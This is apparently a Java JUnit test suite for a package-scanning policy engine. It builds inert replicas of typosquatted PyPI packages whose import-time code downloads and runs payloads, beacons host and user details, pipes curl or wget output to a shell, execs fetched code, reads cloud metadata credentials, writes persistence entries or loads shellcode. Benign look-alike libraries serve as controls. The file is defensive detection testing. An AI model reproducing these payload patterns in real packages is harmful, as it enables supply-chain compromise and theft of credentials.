package dev.gatehouse.policy.replicas;

import static dev.gatehouse.policy.replicas.PythonPackages.sdist;
import static dev.gatehouse.policy.replicas.PythonPackages.wheel;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Trigger;
import java.nio.file.Path;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Inert replicas of PyPI malware whose payload runs on {@code import}: in {@code __init__.py}, in a
 * submodule it imports, or in a function of the package that the top level calls (2022-2026 typosquats,
 * the mistralai 2.4.6 shape), each next to the ordinary library code it must not be confused with.
 */
class PythonImportTimeReplicasTest {
  @TempDir Path tmp;

  @Nested
  @DisplayName("shape: import-time download and run")
  class DownloadAndRun {
    @Test
    void urlretrieveToTempThenPopenInInit() throws Exception {
      wheel(tmp, "reqeusts", "reqeusts/__init__.py", """
          import os, subprocess, tempfile, urllib.request
          _p = os.path.join(tempfile.gettempdir(), "upd.bin")
          urllib.request.urlretrieve("https://cdn.example.invalid/upd.bin", _p)
          subprocess.Popen([_p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void requestsContentWrittenToHomeAndRunThroughAHelperInASubmodule() throws Exception {
      wheel(tmp, "colourama", "colourama/__init__.py", """
          from ._ansi import init
          init()
          """, "colourama/_ansi.py", """
          import os
          import requests

          def _fetch(u):
              return requests.get(u, timeout=5).content

          def init():
              target = os.path.expanduser("~/.cache/ansi-helper")
              with open(target, "wb") as f:
                  f.write(_fetch("https://files.example.invalid/helper"))
              os.chmod(target, 0o755)
              os.system(target + " &")
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void windowsOnlyBranchDownloadsAnExeAndStartsIt() throws Exception {
      wheel(tmp, "pyautogui-helper", "pyautogui_helper/__init__.py", """
          import os, platform, subprocess
          from urllib.request import urlopen
          if platform.system() == "Windows":
              exe = os.path.join(os.getenv("APPDATA"), "svc.exe")
              open(exe, "wb").write(urlopen("https://dl.example.invalid/svc.exe").read())
              subprocess.Popen(exe, creationflags=0x08000000)
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void sdistWhoseInitDownloadsAndSpawnsLikeMistralai246() throws Exception {
      sdist(tmp, "mistralai", "setup.py", """
          from setuptools import setup
          setup(name="mistralai", version="1.0.0", packages=["mistralai"])
          """, "mistralai/__init__.py", """
          import os, subprocess, sys, urllib.request
          if os.name != "nt":
              urllib.request.urlretrieve("https://x.example.invalid/transformers.pyz", "/tmp/transformers.pyz")
              subprocess.Popen([sys.executable, "/tmp/transformers.pyz"], start_new_session=True)
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }
  }

  @Nested
  @DisplayName("shape: import-time beacon of host and user")
  class Beacon {
    @Test
    void requestsPostOfHostnameAndUserInInit() throws Exception {
      wheel(tmp, "beautifulsoup5", "bs5/__init__.py", """
          import getpass, os, socket
          import requests
          try:
              requests.post("https://collect.example.invalid/b", json={
                  "h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}, timeout=3)
          except Exception:
              pass
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void urlopenOfAnFStringUrlBuiltInAHelperOfASubmodule() throws Exception {
      wheel(tmp, "pandas-utils", "pandas_utils/__init__.py", """
          from pandas_utils import telemetry
          telemetry.ping()
          """, "pandas_utils/telemetry.py", """
          import os, platform
          from urllib.request import urlopen

          def ping():
              who = platform.node()
              urlopen(f"http://t.example.invalid/p?n={who}&u={os.getenv('USER')}")
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void dnsLookupOfANameThatCarriesTheUser() throws Exception {
      wheel(tmp, "urllib4", "urllib4/__init__.py", """
          import getpass, socket
          socket.gethostbyname(getpass.getuser() + "." + socket.gethostname() + ".dns.example.invalid")
          """).isStopped(Trigger.IMPORT_TIME, Capability.DNS, Capability.ENVIRONMENT_READ);
    }

    @Test
    void publicAddressLookedUpThenPostedFromAWindowsOnlyBranch() throws Exception {
      wheel(tmp, "pywin32-ctypes2", "pywin32_ctypes2/__init__.py", """
          import sys, requests
          if sys.platform.startswith("win"):
              ip = requests.get("https://api.ipify.org").text
              requests.post("https://c.example.invalid/r", data={"ip": ip})
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void minifiedOneLineBeaconWithAliasedImports() throws Exception {
      wheel(tmp, "numpyy", "numpyy/__init__.py",
          "import socket as s,urllib.request as r,getpass as g;r.urlopen('http://b.example.invalid/?'+s.gethostname()+g.getuser())\n")
          .isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }
  }

  @Nested
  @DisplayName("shape: import-time shell command that downloads")
  class DownloadingCommand {
    @Test
    void osSystemCurlPipeShell() throws Exception {
      wheel(tmp, "pytorch-nightly", "pytorch_nightly/__init__.py", """
          import os
          os.system("curl -s https://s.example.invalid/i.sh | sh >/dev/null 2>&1 &")
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void wgetWithTheCommandSplitIntoPieces() throws Exception {
      wheel(tmp, "djanga", "djanga/__init__.py", """
          import subprocess
          tool = "wg" + "et"
          subprocess.call([tool, "-q", "-O", "/tmp/.x", "http://203.0.113.9/x"])
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void windowsOnlyPowershellDownloadInASubmodule() throws Exception {
      wheel(tmp, "discordpy-self", "discordpy_self/__init__.py", """
          from . import _win
          """, "discordpy_self/_win.py", """
          import os, subprocess
          if os.name == "nt":
              subprocess.Popen("powershell -w hidden -c Invoke-WebRequest https://w.example.invalid/a.exe"
                               " -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe", shell=True)
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }
  }

  @Nested
  @DisplayName("shape: downloading command passed to the package's own helper")
  class HelperCommand {
    @Test
    void importTimeCallOfAHelperThatRunsItsArgumentWithOsSystem() throws Exception {
      wheel(tmp, "colorama-ext", "colorama_ext/__init__.py", """
          import os
          def run(c):
              os.system(c)
          run("curl -s https://x.example.invalid/p | sh")
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void commandHandedThroughTwoHelpersInASubmoduleToAShellTrueSubprocess() throws Exception {
      wheel(tmp, "requests-oauth3", "requests_oauth3/__init__.py", """
          from requests_oauth3._util import execute
          execute(cmd="wget -q -O- http://198.51.100.7/u | bash")
          """, "requests_oauth3/_util.py", """
          import subprocess
          def _shell(command, quiet=True):
              return subprocess.run(command, shell=True, capture_output=quiet)
          def execute(cmd):
              return _shell(cmd)
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void setupPyPassesAPowershellDownloadHeldInAConstantToItsHelper() throws Exception {
      sdist(tmp, "pywin-helpers", "setup.py", """
          import subprocess
          from setuptools import setup
          PS = "powershell -w hidden -c iwr https://w.example.invalid/a.exe -OutFile a.exe; .\\a.exe"
          def sh(line):
              subprocess.Popen(line, shell=True)
          sh(PS)
          setup(name="pywin-helpers", version="1.0.0")
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void benignHelperThatAsksGitForTheVersionIsAllowed() throws Exception {
      wheel(tmp, "gitversion-lib", "gitversion_lib/__init__.py", """
          import subprocess
          def _git(args):
              try:
                  return subprocess.check_output("git " + args, shell=True).decode().strip()
              except Exception:
                  return "0"
          __version__ = _git("describe --tags --always")
          """).isAllowed();
    }
  }

  @Nested
  @DisplayName("shape: import-time fetched code run")
  class FetchedCode {
    @Test
    void execOfUrlopenRead() throws Exception {
      wheel(tmp, "tensorfow", "tensorfow/__init__.py", """
          import urllib.request
          exec(urllib.request.urlopen("https://p.example.invalid/stage2.py").read())
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.DYNAMIC_CODE);
    }

    @Test
    void responseTextRunThroughAHelperFunction() throws Exception {
      wheel(tmp, "openai-tools", "openai_tools/__init__.py", """
          import requests
          def _load(u):
              r = requests.get(u)
              return r.text
          def _run(code):
              exec(code, {})
          _run(_load("https://p.example.invalid/s2"))
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.DYNAMIC_CODE);
    }

    @Test
    void execLookedUpWithGetattrAndASplitName() throws Exception {
      wheel(tmp, "selenium-stealth2", "selenium_stealth2/__init__.py", """
          import requests
          getattr(__builtins__, "ex" + "ec")(requests.get("https://p.example.invalid/c").text)
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.DYNAMIC_CODE);
    }
  }

  @Nested
  @DisplayName("shape: import-time out-of-band host")
  class OutOfBand {
    @Test
    void interactshCallbackAtImport() throws Exception {
      wheel(tmp, "boto4", "boto4/__init__.py", """
          import requests
          requests.get("https://c5abcdefgh.oast.fun/boto4")
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK);
    }

    @Test
    void discordWebhookPostFromASubmodule() throws Exception {
      wheel(tmp, "pycolors", "pycolors/__init__.py", "from .core import *\n", "pycolors/core.py", """
          import urllib.request
          HOOK = "https://discord.com/api/webhooks/1/abc"
          urllib.request.urlopen(urllib.request.Request(HOOK, data=b'{"content": "installed"}'))
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK);
    }

    @Test
    void cloudMetadataEndpointRead() throws Exception {
      wheel(tmp, "awscli-helper", "awscli_helper/__init__.py", """
          import urllib.request as u
          u.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=1)
          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK);
    }
  }

  @Nested
  @DisplayName("shape: import-time persistence write")
  class Persistence {
    @Test
    void appendToBashrc() throws Exception {
      wheel(tmp, "requestz", "requestz/__init__.py", """
          import os
          with open(os.path.expanduser("~/.bashrc"), "a") as f:
              f.write("\\n(python3 -m requestz.agent &)\\n")
          """).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
    }

    @Test
    void windowsStartupFolderCopyOnlyOnWindows() throws Exception {
      wheel(tmp, "pyinstaler", "pyinstaler/__init__.py", """
          import os, shutil, sys
          if sys.platform == "win32":
              shutil.copy(os.path.join(os.path.dirname(__file__), "svc.pyw"),
                          os.getenv("APPDATA") + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\svc.pyw")
          """).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
    }

    @Test
    void crontabEntryWrittenByAHelper() throws Exception {
      wheel(tmp, "flask-session2", "flask_session2/__init__.py", """
          def _keep():
              open("/etc/cron.d/" + "session-keepalive", "w").write("* * * * * python3 -c 'print(1)'\\n")
          _keep()
          """).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
    }
  }

  @Nested
  @DisplayName("shape: import-time hidden or detached process")
  class HiddenProcess {
    @Test
    void shippedBinaryStartedInANewSessionSoItOutlivesTheImport() throws Exception {
      wheel(tmp, "aiohttp-socks5", "aiohttp_socks5/__init__.py", """
          import os, subprocess
          _bin = os.path.join(os.path.dirname(__file__), "bin", "helper")
          subprocess.Popen([_bin], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN);
    }

    @Test
    void windowsOnlyPythonwWithoutAWindowInASubmodule() throws Exception {
      wheel(tmp, "pywebview2", "pywebview2/__init__.py", "from . import _svc\n", "pywebview2/_svc.py", """
          import os, subprocess, sys
          if os.name == "nt":
              subprocess.Popen(["pythonw", os.path.join(os.path.dirname(__file__), "svc.py")],
                               creationflags=subprocess.CREATE_NO_WINDOW)
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN);
    }

    @Test
    void nohupCommandInAConstantRunByAHelper() throws Exception {
      wheel(tmp, "fastapi-utils2", "fastapi_utils2/__init__.py", """
          import os
          _CMD = "nohup python3 -m " + "fastapi_utils2.agent >/dev/null 2>&1 &"
          def _spawn():
              os.system(_CMD)
          _spawn()
          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN);
    }
  }

  @Nested
  @DisplayName("shape: import-time shellcode loader (ctypes)")
  class ShellcodeLoader {
    @Test
    void virtualAllocMoveMemoryCreateThreadOnWindows() throws Exception {
      wheel(tmp, "pycryptoo", "pycryptoo/__init__.py", """
          import ctypes, sys
          if sys.platform == "win32":
              buf = bytearray(b"\\x90\\x90\\xc3")
              k = ctypes.windll.kernel32
              p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)
              ctypes.windll.kernel32.RtlMoveMemory(p, (ctypes.c_char * len(buf)).from_buffer(buf), len(buf))
              ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
          """).isStopped(Trigger.IMPORT_TIME, Capability.DYNAMIC_CODE);
    }

    @Test
    void kernel32ImportedUnderAnAliasInASubmodule() throws Exception {
      wheel(tmp, "opencv-python3", "opencv_python3/__init__.py", "from . import _gpu\n",
          "opencv_python3/_gpu.py", """
          from ctypes import windll
          def _init(sc):
              addr = windll.kernel32.VirtualAlloc(None, len(sc), 0x3000, 0x40)
              windll.kernel32.CreateThread(None, 0, addr, None, 0, None)
          _init(b"\\xc3")
          """).isStopped(Trigger.IMPORT_TIME, Capability.DYNAMIC_CODE);
    }

    @Test
    void decodedShellcodeWithVirtualProtect() throws Exception {
      wheel(tmp, "numpy-financial2", "numpy_financial2/__init__.py", """
          import base64, ctypes
          sc = base64.b64decode("kJDD")
          ctypes.windll.kernel32.VirtualProtect(ctypes.c_char_p(sc), len(sc), 0x40, ctypes.byref(ctypes.c_ulong()))
          """).isStopped(Trigger.IMPORT_TIME, Capability.DYNAMIC_CODE);
    }
  }

  @Nested
  @DisplayName("benign twin: what ordinary libraries do at import")
  class Benign {
    @Test
    void gitDescribeForTheVersionAndAPlatformProbe() throws Exception {
      wheel(tmp, "versioned", "versioned/__init__.py", """
          import os, platform, subprocess, sys
          IS_WINDOWS = platform.system() == "Windows" or os.name == "nt"
          try:
              __version__ = subprocess.check_output(["git", "describe", "--tags"], cwd=os.path.dirname(__file__),
                                                    stderr=subprocess.DEVNULL).decode().strip()
          except Exception:
              __version__ = "0+unknown"
          """).isAllowed();
    }

    @Test
    void ctypesLoadsTheLibraryShippedInThePackage() throws Exception {
      wheel(tmp, "fastlib", "fastlib/__init__.py", """
          import ctypes, os, sys
          _here = os.path.dirname(os.path.abspath(__file__))
          _lib = ctypes.CDLL(os.path.join(_here, "libfast.dll" if sys.platform == "win32" else "libfast.so"))
          """).isAllowed();
    }

    @Test
    void lazyImportsAndOwnDataFiles() throws Exception {
      wheel(tmp, "lazylib", "lazylib/__init__.py", """
          import importlib, json, os
          with open(os.path.join(os.path.dirname(__file__), "data", "table.json")) as f:
              TABLE = json.load(f)
          def __getattr__(name):
              if name in ("io", "plot"):
                  return importlib.import_module("." + name, __name__)
              raise AttributeError(name)
          """).isAllowed();
    }

    @Test
    void generatedFunctionsFromALiteralTemplateAsScipyDoes() throws Exception {
      wheel(tmp, "tmplgen", "tmplgen/__init__.py", """
          _template = "def %(name)s(x, *args):\\n    return _impl('%(name)s', x, *args)\\n"
          def _impl(name, x, *args):
              return x
          for _n in ("norm", "expon", "gamma"):
              exec(_template % {"name": _n})
          """).isAllowed();
    }

    @Test
    void kerasStyleConfigFolderInTheHome() throws Exception {
      wheel(tmp, "kerasish", "kerasish/config.py", """
          import json, os
          _base = os.path.expanduser("~")
          _dir = os.path.join(_base, ".kerasish")
          os.makedirs(_dir, exist_ok=True)
          _config_path = os.path.join(_dir, "kerasish.json")
          if not os.path.exists(_config_path):
              with open(_config_path, "w") as f:
                  f.write(json.dumps({"floatx": "float32"}, indent=4))
          """, "kerasish/__init__.py", "from . import config\n").isAllowed();
    }

    @Test
    void socketProbeForIpv6SupportAsUrllib3Does() throws Exception {
      wheel(tmp, "httpish", "httpish/connection.py", """
          import socket
          def _has_ipv6(host):
              sock = None
              try:
                  sock = socket.socket(socket.AF_INET6)
                  sock.bind((host, 0))
                  return True
              except Exception:
                  return False
              finally:
                  if sock:
                      sock.close()
          HAS_IPV6 = _has_ipv6("::1")
          """).isAllowed();
    }
  }
}
